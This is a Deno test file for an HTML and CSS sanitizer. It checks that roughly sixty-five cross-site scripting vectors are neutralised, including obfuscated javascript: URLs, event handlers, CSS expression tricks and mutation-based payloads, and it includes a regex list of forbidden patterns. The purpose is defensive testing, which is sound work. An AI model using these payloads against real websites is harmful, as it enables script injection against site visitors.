import { assertEquals, ok } from "../../_helpers/assert.ts";
import { safeUrl, sanitizeCss, sanitizeHtml } from "../../../mod/protection/html_sanitize.ts";

const FORBIDDEN = [
  /<script/i,
  /<svg/i,
  /<math/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<base/i,
  /<link/i,
  /<template/i,
  /<!--/,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /expression\(/i,
  /behavior:/i,
  /-moz-binding/i,
  /@import/i,
  /srcdoc/i,
  /http-equiv/i,
  /formaction|\saction=|\smethod=/i,
  /data:text/i,
];

function assertClean(input: string): string {
  const { html } = sanitizeHtml(input);
  for (const re of FORBIDDEN) ok(!re.test(html), `${re} survived in ${html}\nfrom ${input}`);
  return html;
}

const VECTORS = [
  "<script>alert(1)</script>",
  "<ScRiPt SRC=//evil.test/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x onerror\n=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<META HTTP-EQUIV="refresh" CONTENT="0">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<style>@import 'http://evil.test/x.css';</style>",
  "<style>@IMPORT url(//evil.test/x.css);</style>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<style>body{width:expression(alert(1))}</style>",
  "<style>body{width:expr\\65 ssion(alert(1))}</style>",
  "<style>body{width:expr/**/ession(alert(1))}</style>",
  "<style>body{behavior:url(x.htc)}</style>",
  "<style>body{-moz-binding:url(x.xml#xss)}</style>",
  "<style>body{background:url(java\\73 cript:alert(1))}</style>",
  "<style>a{color:red}\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e</style>",
  "<style>@imp@importort url(x)</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x)">x</p>',
  '<form action="https://evil.test"><button formaction="javascript:alert(1)">go</button></form>',
  '<form method="post"><input type="image" src="javascript:alert(1)"></form>',
  "<!--<script>alert(1)</script>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<p>a<!-- comment -->b</p>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="http://ok.test" onclick="alert(1)">ok</a>',
  "<body onload=alert(1)>x</body>",
  '<html onmouseover="alert(1)"><body>x</body></html>',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
  "<textarea></textarea><script>alert(1)</script>",
  "<xmp><script>alert(1)</script></xmp>",
  "<p><b><i>unclosed <script>alert(1)",
  "<<script>script>alert(1)//<</script>/script>",
  "<img src=`javascript:alert(1)`>",
  "<img/src=x/onerror=alert(1)>",
  '<a href="\\x01javascript:alert(1)">x</a>',
];

for (const [i, vector] of VECTORS.entries()) {
  Deno.test(`sanitizeHtml() neutralises XSS vector ${i + 1}: ${vector.slice(0, 60)}`, () => {
    assertClean(vector);
  });
}

Deno.test("sanitizeHtml() keeps a normal block page intact", () => {
  const page = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Blocked</title>
<style>body{font-family:sans-serif;color:#333}</style></head><body><main class="box">
<h1>Request blocked</h1><p>Reference: <code>{{trace_id}}</code></p>
<a href="https://example.com/help">Help</a> <a href="mailto:sec@example.com">Mail</a>
<img alt="logo" src="data:image/png;base64,iVBORw0KGgo="></main></body></html>`;
  const { html, removed } = sanitizeHtml(page);
  assertEquals(removed, []);
  for (
    const part of [
      '<meta charset="utf-8">',
      "<title>Blocked</title>",
      "body{font-family:sans-serif;color:#333}",
      '<main class="box">',
      "{{trace_id}}",
      'href="https://example.com/help"',
      'href="mailto:sec@example.com"',
      'src="data:image/png;base64,iVBORw0KGgo="',
    ]
  ) ok(html.includes(part), `${part} missing in ${html}`);
});

Deno.test("sanitizeHtml() reports what it removed and unwraps unknown tags", () => {
  const { html, removed } = sanitizeHtml(
    '<blink>hi <b onclick="x">there</b></blink><script>x</script>',
  );
  ok(html.includes("hi <b>there</b>"), html);
  assertEquals(removed, ["b@onclick", "<blink> (unwrapped)", "script"]);
});

Deno.test("sanitizeHtml() strips meta attributes other than charset", () => {
  const { html } = sanitizeHtml(
    '<html><head><meta charset="utf-8" name="x" content="y"></head></html>',
  );
  ok(html.includes('<meta charset="utf-8">'), html);
});

Deno.test("safeUrl() keeps only http, https, mailto and tel (and image data URIs for img)", () => {
  assertEquals(safeUrl("https://a.test/x", false), "https://a.test/x");
  assertEquals(safeUrl("tel:+123", false), "tel:+123");
  assertEquals(safeUrl("/relative", false), undefined);
  assertEquals(safeUrl("ftp://a.test", false), undefined);
  assertEquals(safeUrl("data:image/gif;base64,R0lGOD", false), undefined);
  assertEquals(safeUrl("data:image/gif;base64,R0lGOD", true), "data:image/gif;base64,R0lGOD");
  assertEquals(safeUrl("data:image/gif,R0lGOD", true), undefined);
});

Deno.test("sanitizeCss() cannot be tricked into splicing a forbidden token back together", () => {
  assertEquals(sanitizeCss("a{b:javajavascript:script:x}"), "a{b:x}");
  assertEquals(sanitizeCss("a{color:red}"), "a{color:red}");
});

Deno.test("sanitizeHtml() keeps quotes inside attribute values escaped", () => {
  const { html } = sanitizeHtml(`<p title='x" onmouseover="alert(1)'>a</p>`);
  ok(html.includes('<p title="x&quot; onmouseover=&quot;alert(1)">a</p>'), html);
});
